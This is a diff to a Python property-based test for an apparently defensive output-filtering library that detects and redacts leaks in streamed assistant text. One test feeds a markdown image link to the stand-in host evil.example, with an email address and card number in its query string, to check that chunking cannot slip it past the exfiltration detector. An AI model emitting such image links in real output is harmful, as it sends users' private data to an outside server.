@@ -3,9 +3,11 @@
 from hypothesis import given
 from hypothesis import strategies as st
 
+from redoubt import compose
 from redoubt.domain.decision import Action, Decision, Obligation
 from redoubt.domain.exchange import Role, Segment, Syntax, Trust
 from redoubt.engine.detect.interface import Detector
+from redoubt.engine.detect.scan import scan
 from redoubt.engine.effects.active import ActiveContentDetector
 from redoubt.engine.effects.address import parse
 from redoubt.engine.effects.carries import carries
@@ -17,6 +19,7 @@ from redoubt.engine.redact.methods import Methods
 from redoubt.engine.redact.restore import Restorer
 from redoubt.engine.stream import LaneStream
 
+RULES = compose.detector()
 DETECTORS: tuple[Detector, ...] = (
     ExfiltrationDetector(),
     ActiveContentDetector(),
@@ -115,12 +118,13 @@ def test_code_is_where_a_backtick_or_a_tilde_is(text: str) -> None:
 
 @given(st.lists(st.integers(1, 9), min_size=1, max_size=60), st.sampled_from(["plain words here. ", ""]))
 def test_no_chunking_lets_an_image_out(sizes: list[int], before: str) -> None:
-    image = "![a](https://evil.example/p.png?d=jane.doe@acme-widgets.com)"
+    image = "![a](https://evil.example/p.png?d=jane.doe@acme-widgets.com&c=4111111111111111)"
     text = before + image + " and more."
-    detector = DETECTORS[0]
+    seen: set[str] = set()
 
     def inspect(piece: str) -> Decision:
-        found = detector.detect(Segment(piece, Role.ASSISTANT, Trust.MODEL))
+        found = scan((RULES, *DETECTORS), Segment(piece, Role.ASSISTANT, Trust.MODEL)).findings
+        seen.update(f.category for f in found)
         return Decision(obligations=tuple(Obligation(f, Action.REDACT, "r") for f in found))
 
     lane = LaneStream(inspect, Restorer(), Methods(b"k" * 32))
@@ -131,3 +135,6 @@ def test_no_chunking_lets_an_image_out(sizes: list[int], before: str) -> None:
             at += size
     released += lane.close()
     assert released == before + "[REDACTED:leak.exfiltration] and more."
+    assert seen >= {"leak.exfiltration", "pii.email", "finance.card"}, (
+        "the values in the link are found beside it"
+    )
